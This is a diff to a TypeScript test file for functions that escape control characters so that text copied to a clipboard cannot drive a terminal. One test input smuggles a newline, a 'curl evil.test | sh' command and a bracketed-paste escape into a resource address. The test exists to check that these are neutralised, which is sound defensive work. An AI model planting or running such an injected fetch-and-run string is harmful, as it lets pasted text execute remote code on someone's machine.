@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { visible, visibleString } from './visible';
+import { harmlessLine, harmlessText, visible, visibleString } from './visible';
 
 describe('visible', () => {
   it('leaves text alone that hides nothing, in any script', () => {
@@ -37,4 +37,13 @@ describe('visible', () => {
   it('keeps hidden characters that follow one another apart', () => {
     expect(visible('\u202e\u202d').map((piece) => piece.text)).toEqual(['U+202E', 'U+202D']);
   });
+});
+
+it('makes lines for the clipboard that drive no terminal', () => {
+  const address = 'aws_x.a["\n curl evil.test | sh\r\u001b[201~\u0085\u2028"]';
+  expect(harmlessLine(address)).toBe(
+    'aws_x.a["[U+000A] curl evil.test | sh[U+000D][U+001B][201~[U+0085][U+2028]"]',
+  );
+  expect(harmlessText('a\n\tb\r\u001b[A')).toBe('a\n\tb[U+000D][U+001B][A');
+  for (const plain of ['module.a["가"].b', 'aws_s3_bucket.a\u202eb']) expect(harmlessLine(plain)).toBe(plain);
 });
